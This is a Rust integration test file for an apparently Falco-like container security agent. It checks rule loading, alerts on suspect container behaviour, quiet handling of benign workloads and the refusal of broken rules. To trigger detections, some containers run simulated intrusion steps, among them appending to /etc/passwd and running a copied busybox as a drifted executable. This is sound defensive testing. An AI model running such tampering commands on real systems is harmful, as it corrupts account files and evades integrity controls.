    // The embedded defaults, and the files under rules/ on their own, in
    // file-name order (the load order), must both load without error or warning.
    let files = default_rule_files();
    let paths: Vec<String> = files.iter().map(|f| f.display().to_string()).collect();
    let mut from_files: Vec<&str> = vec!["rules", "check", "--no-default-rules"];
    from_files.extend(paths.iter().map(String::as_str));
    for args in [vec!["rules", "check"], from_files] {
        let out = rampart_output(&args, Duration::from_secs(60));
        let text =
            format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(out.status.success(), "rampart {args:?} failed ({}):\n{text}", out.status);
        assert!(!text.contains("warning"), "rampart {args:?} warned:\n{text}");
        let want = format!("ok: {} rules", default_rule_names().len());
        assert!(text.contains(&want), "rampart {args:?} did not load every rule ({want}):\n{text}");
    }
}

#[test]
#[ignore = "privileged: needs root, BPF and dockerd (scripts/test.sh runs it)"]
fn default_and_upstream_rules_fire_on_real_containers() {
    preflight();
    // Two agents side by side over the same containers: rampart's defaults, and
    // Falco's three upstream files alone.
    let mut agent = Agent::start_run(&[]);
    let up_args = upstream_agent_args();
    let up_refs: Vec<&str> = up_args.iter().map(String::as_str).collect();
    let mut upstream = Agent::start_run(&up_refs);
    let cases = cases();
    let t0 = Instant::now();
    let containers: Vec<Container> = cases.iter().map(start).collect();
    eprintln!("started {} behaviour containers in {:?}", containers.len(), t0.elapsed());

    let deadline = Instant::now() + ALERT_DEADLINE;
    let mut problems = Vec::new();
    let mut missing = Vec::new();
    for (case, c) in cases.iter().zip(&containers) {
        let left = deadline.saturating_duration_since(Instant::now());
        // Matched by container id; the name is checked with the other fields.
        match agent.wait_for(left, |v| is_alert(v) && alert_rule(v) == case.rule && container_id(v) == c.id) {
            Some(alert) => problems.extend(check_alert(case, c, &alert)),
            None => missing.push(format!("{} (container {}; logs: {})", case.rule, c.name, c.logs().trim())),
        }
    }
    eprintln!("alerts checked after {:?}", t0.elapsed());
    let mut up_missing = Vec::new();
    let mut up_fired = BTreeSet::new();
    for (case, c) in cases.iter().zip(&containers) {
        for rule in case.upstream {
            let left = deadline.saturating_duration_since(Instant::now()).max(Duration::from_secs(1));
            match upstream
                .wait_for(left, |v| is_alert(v) && alert_rule(v) == *rule && container_id(v) == c.id)
            {
                Some(_) => {
                    up_fired.insert(*rule);
                }
                None => up_missing.push(format!("{rule} (container {}, for {})", c.name, case.rule)),
            }
        }
    }
    eprintln!("upstream rules fired: {} of {} listed", up_fired.len(), up_fired.len() + up_missing.len());
    if !up_missing.is_empty() && missing.is_empty() && problems.is_empty() {
        let alerts: Vec<String> = upstream.events.iter().filter(|v| is_alert(v)).map(alert_brief).collect();
        panic!(
            "{} upstream rule(s) did not fire:\n  {}\nall upstream alerts ({}):\n  {}\nupstream agent stderr:\n{}",
            up_missing.len(),
            up_missing.join("\n  "),
            alerts.len(),
            alerts.join("\n  "),
            upstream.stderr_text()
        );
    }
    upstream.stop();
    if !missing.is_empty() || !problems.is_empty() {
        let alerts: Vec<String> = agent.events.iter().filter(|v| is_alert(v)).map(alert_brief).collect();
        panic!(
            "{} rule(s) did not fire:\n  {}\n{} upstream rule(s) did not fire:\n  {}\n{} problem(s) with alerts:\n  {}\nall alerts ({}):\n  {}\nagent stderr:\n{}",
            missing.len(),
            missing.join("\n  "),
            up_missing.len(),
            up_missing.join("\n  "),
            problems.len(),
            problems.join("\n  "),
            alerts.len(),
            alerts.join("\n  "),
            agent.stderr_text()
        );
    }
    let summary = agent.stop();
    assert!(summary.line.contains("alerts"), "summary names the alert count: {}", summary.line);
    drop(containers);
}

#[test]
#[ignore = "privileged: needs root, BPF and dockerd (scripts/test.sh runs it)"]
fn benign_workloads_raise_nothing_at_warning_or_above() {
    preflight();
    let mut agent = Agent::start_run(&[]);
    // Falco's upstream files alone, side by side over the same workloads.
    let up_args = upstream_agent_args();
    let up_refs: Vec<&str> = up_args.iter().map(String::as_str).collect();
    let mut upstream = Agent::start_run(&up_refs);

    // A web server serving requests over loopback.
    let web = Container::sh(
        "benign-web",
        &[],
        "mkdir -p /www && echo hello > /www/index.html && exec httpd -f -p 8080 -h /www",
    );
    // A batch job: files under /tmp and /data, sort, gzip.
    let batch = Container::sh(
        "benign-batch",
        &[],
        "mkdir -p /data && i=0; while [ $i -lt 200 ]; do echo \"record-$((i * 7 % 13))-$i\" >> /tmp/work.txt; \
         i=$((i + 1)); done; sort -r /tmp/work.txt > /data/sorted.txt && gzip -c /data/sorted.txt > \
         /data/sorted.txt.gz && gunzip -c /data/sorted.txt.gz | wc -l > /data/count && uniq -c /data/sorted.txt \
         | head -5 && md5sum /data/sorted.txt && rm /tmp/work.txt && ls -l /data && cat /data/count",
    );
    // A shell entrypoint doing ordinary start-up work (files, links, renames, a
    // cache below /root, a tar pipe).
    let entry = Container::sh(
        "benign-entry",
        &[],
        "echo starting; now=$(date); echo \"at $now\"; for f in a b c; do echo $f > /tmp/$f; done; \
         cat /tmp/a /tmp/b /tmp/c | tr a-z A-Z; env | sort | head -3; id; hostname; \
         rpm -qa 2>/dev/null; dpkg -l 2>/dev/null; ln -s /tmp/a /tmp/a.link; mv /tmp/b /tmp/b.old; \
         mkdir -p /root/.cache/app && echo x > /root/.cache/app/state; echo quiet > /dev/null; \
         tar cf - /tmp/a /tmp/c 2>/dev/null | tar xf - -C /root; sleep 1; echo done",
    );

    // Requests to the web server from inside its container.
    let mut served = String::new();
    for _ in 0..50 {
        let out = docker(&["exec", &web.name, "wget", "-q", "-O", "-", "http://127.0.0.1:8080/index.html"]);
        if out.status.success() {
            served = String::from_utf8_lossy(&out.stdout).to_string();
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(served.trim(), "hello", "httpd in {} did not serve; logs:\n{}", web.name, web.logs());
    web.exec(&[
        "sh",
        "-c",
        "i=0; while [ $i -lt 30 ]; do wget -q -O /dev/null http://127.0.0.1:8080/index.html || exit 1; \
         wget -q -O /dev/null http://127.0.0.1:8080/missing 2>/dev/null; i=$((i + 1)); done",
    ]);
    batch.wait_ok(WAIT);
    entry.wait_ok(WAIT);

    // A canary in another container: once its alert is out, the benign
    // containers' events (earlier) have been evaluated too; and it proves the
    // agent is evaluating rules at all.
    let canary = Container::sh("benign-canary", &[], "echo canary >> /etc/passwd");
    agent.expect_within(&format!("the canary alert in {}", canary.name), Duration::from_secs(30), |v| {
        is_alert_of(v, "Write below etc in container", &canary.name)
    });
    agent.collect_for(Duration::from_secs(2));
    // Falco's "Write below etc" fires on the same canary.
    upstream.expect_within(
        &format!("the upstream canary alert in {}", canary.name),
        Duration::from_secs(30),
        |v| is_alert_of(v, "Write below etc", &canary.name),
    );
    upstream.collect_for(Duration::from_secs(2));

    let benign: Vec<&str> = vec![web.name.as_str(), batch.name.as_str(), entry.name.as_str()];
    let loud: Vec<String> = agent
        .events
        .iter()
        .filter(|v| is_alert(v) && benign.contains(&container_name(v)))
        .filter(|v| WARNING_OR_ABOVE.contains(&alert_priority(v)))
        .map(alert_brief)
        .collect();
    let quiet: Vec<String> = agent
        .events
        .iter()
        .filter(|v| is_alert(v) && benign.contains(&container_name(v)))
        .filter(|v| !WARNING_OR_ABOVE.contains(&alert_priority(v)))
        .map(alert_brief)
        .collect();
    if !quiet.is_empty() {
        eprintln!("benign workloads raised these lower-priority alerts: {quiet:#?}");
    }
    assert!(loud.is_empty(), "benign workloads raised alerts at WARNING or above: {loud:#?}");
    // A `sh -c` entrypoint (and the shells of `docker exec`) is the container's
    // own entrypoint chain, not a shell spawned by a service.
    let shells: Vec<String> = agent
        .events
        .iter()
        .filter(|v| is_alert(v) && benign.contains(&container_name(v)))
        .filter(|v| alert_rule(v).starts_with("Shell spawned by"))
        .map(alert_brief)
        .collect();
    assert!(shells.is_empty(), "entrypoint shells reported as spawned by a service: {shells:#?}");

    let up_all: Vec<&Value> =
        upstream.events.iter().filter(|v| is_alert(v) && benign.contains(&container_name(v))).collect();
    let up_loud: Vec<String> = up_all
        .iter()
        .filter(|v| WARNING_OR_ABOVE.contains(&alert_priority(v)))
        .filter(|v| !UPSTREAM_BENIGN_ALLOWED.iter().any(|(rule, _)| alert_rule(v) == *rule))
        .map(|v| alert_brief(v))
        .collect();
    let up_quiet: Vec<String> = up_all
        .iter()
        .filter(|v| !WARNING_OR_ABOVE.contains(&alert_priority(v)))
        .map(|v| alert_brief(v))
        .collect();
    eprintln!(
        "upstream rules on benign workloads: {} alerts, {} below WARNING: {up_quiet:#?}",
        up_all.len(),
        up_quiet.len()
    );
    assert!(up_loud.is_empty(), "benign workloads raised upstream alerts at WARNING or above: {up_loud:#?}");
    upstream.stop();
    agent.stop();
}

/// Upstream alerts at WARNING or above that Falco itself raises on the benign
/// workloads (rule, why).
const UPSTREAM_BENIGN_ALLOWED: &[(&str, &str)] = &[
    // benign-entry's `tar xf - -C /root` creates /root/tmp/a and /root/tmp/c:
    // Falco's condition (open_write below / or /root, outside its short list
    // of known files) holds for any such write, so Falco raises it too. This
    // noise is why rampart did not adopt the rule (docs/falco-coverage.md).
    ("Write below root", "benign-entry: tar extracting below /root"),
];

const BROKEN_RULES: &str = "\
- rule: Broken rule with unknown field
  desc: refers to a field that does not exist
  condition: evt.type = execve and proc.no_such_field = sh
  output: \"broken %proc.name\"
  priority: WARNING
";

/// `FILE:LINE:COL:` at the start of some line of `text`, for `file`.
fn located_errors(text: &str, file: &str) -> Vec<(u64, u64, String)> {
    text.lines()
        .filter_map(|l| {
            let at = l.find(file)?;
            let rest = &l[at + file.len()..];
            let mut parts = rest.strip_prefix(':')?.splitn(3, ':');
            let line = parts.next()?.trim().parse().ok()?;
            let col = parts.next()?.trim().parse().ok()?;
            Some((line, col, parts.next().unwrap_or("").to_string()))
        })
        .collect()
}

#[test]
fn broken_rule_file_is_refused_with_its_location() {
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(unique("broken-rules"));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("broken.yaml");
    std::fs::write(&file, BROKEN_RULES).unwrap();
    let path = file.display().to_string();
    // The unknown field is on line 3, at column 36 (1-based).
    let (want_line, want_col) = (3, 36);

    let out = rampart_output(&["rules", "check", &path], Duration::from_secs(60));
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(!out.status.success(), "rules check accepted a broken file:\n{text}");
    let errs = located_errors(&text, &path);
    assert!(
        errs.iter().any(|(l, c, msg)| *l == want_line && *c == want_col && msg.contains("no_such_field")),
        "rules check must report {path}:{want_line}:{want_col}: ... naming proc.no_such_field; got:\n{text}"
    );

    // The agent refuses to start with it (and says why), instead of running
    // without the rule.
    let out = rampart_output(&["run", "--json", "--rules", &path], Duration::from_secs(90));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "rampart run started with a broken rule file; stderr:\n{stderr}");
    assert!(!stderr.contains(READY_LINE), "rampart run attached its sensor before refusing:\n{stderr}");
    let errs = located_errors(&stderr, &path);
    assert!(
        errs.iter().any(|(l, c, msg)| *l == want_line && *c == want_col && msg.contains("no_such_field")),
        "rampart run must name {path}:{want_line}:{want_col} and the field; stderr:\n{stderr}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `container.cpu_share` on real busy containers: the CPU drift rule fires
/// for a container whose busy loop runs a busybox copied into its writable
/// layer, with the container's CPU share in the alert; not for a container
/// as busy whose loop runs the image's own shell (a probe rule of the test's
/// shows that one busy), nor for an idle container running a drifted copy
/// (whose plain drift alert shows the drift was seen). The test moves the
/// threshold from 50% to 20% of a CPU through the macro meant for tuning it:
/// on a machine loaded by other tests a busy loop gets half a CPU only now
/// and then, and an idle container stays far below either.
#[test]
#[ignore = "privileged: needs root, BPF and dockerd (scripts/test.sh runs it)"]
fn busy_container_running_a_drifted_executable_is_flagged() {
    preflight();
    const PROBE: &str = "Probe busy container";
    const BUSY: u64 = 20;
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("busy.yaml");
    std::fs::write(
        &rules,
        format!(
            "- macro: container_cpu_busy\n  condition: (container.cpu_share >= {BUSY})\n  override:\n    condition: replace\n\
             - rule: {PROBE}\n  desc: the CPU share of a busy container opening /dev/null\n  \
             condition: evt.type in (open, openat) and container and fd.name = /dev/null and container_cpu_busy\n  \
             output: busy (cpu_share=%container.cpu_share)\n  priority: INFO\n"
        ),
    )
    .unwrap();
    let mut agent = Agent::start_run(&["--rules", rules.to_str().unwrap()]);
    // Pure shell arithmetic, then an open of /dev/null by the shell itself
    // (a few a second): CPU-bound, with events of the busy process.
    let spin = "while :; do i=0; while [ $i -lt 100000 ]; do i=$((i+1)); done; : > /dev/null; done";
    let drifted =
        Container::sh("cpu-drift", &[], &format!("cp /bin/busybox /root/sh && exec /root/sh -c '{spin}'"));
    let image_only = Container::sh("cpu-image", &[], spin);
    let idle = Container::sh(
        "cpu-idle-drift",
        &[],
        "cp /bin/busybox /root/sh && exec /root/sh -c 'while :; do : > /dev/null; sleep 1; done'",
    );
    let of = |rule: &'static str, c: &Container| {
        let id = c.id.clone();
        move |v: &Value| is_alert(v) && alert_rule(v) == rule && container_id(v) == id
    };
    let alert = agent.wait_for(Duration::from_secs(60), of(CPU_DRIFT_RULE, &drifted)).unwrap_or_else(|| {
        panic!("no {CPU_DRIFT_RULE:?} alert for {}:\n{}", drifted.name, agent.diagnosis())
    });
    let fields = &alert["output_fields"];
    let share = fields["container.cpu_share"].as_u64().unwrap_or_else(|| panic!("no cpu share: {alert}"));
    let cpus = std::thread::available_parallelism().unwrap().get() as u64;
    eprintln!("figures: cpu_share {share} in {}", alert_brief(&alert));
    // One loop: at most one CPU (and a little for the window's rounding).
    assert!((BUSY..=105).contains(&share), "a share of {BUSY}% to one CPU of {cpus}: {alert}");
    assert_eq!(alert_priority(&alert), "Error", "{alert}");
    assert_eq!(fields["proc.exepath"], "/root/sh", "{alert}");
    let busy = agent.wait_for(Duration::from_secs(60), of(PROBE, &image_only));
    assert!(busy.is_some(), "the image-only container never reached {BUSY}% CPU:\n{}", agent.diagnosis());
    let seen = agent.wait_for(Duration::from_secs(30), of("Drifted executable run in container", &idle));
    assert!(seen.is_some(), "the idle container's drift was not seen:\n{}", agent.diagnosis());
    // A full window more for anything late.
    agent.collect_for(Duration::from_secs(6));
    let wrong: Vec<String> = agent
        .events
        .iter()
        .filter(|v| of(CPU_DRIFT_RULE, &image_only)(v) || of(CPU_DRIFT_RULE, &idle)(v))
        .map(alert_brief)
        .collect();
    assert!(wrong.is_empty(), "flagged without drift or without CPU: {wrong:#?}");
    drop((drifted, image_only, idle));
    agent.stop();
}
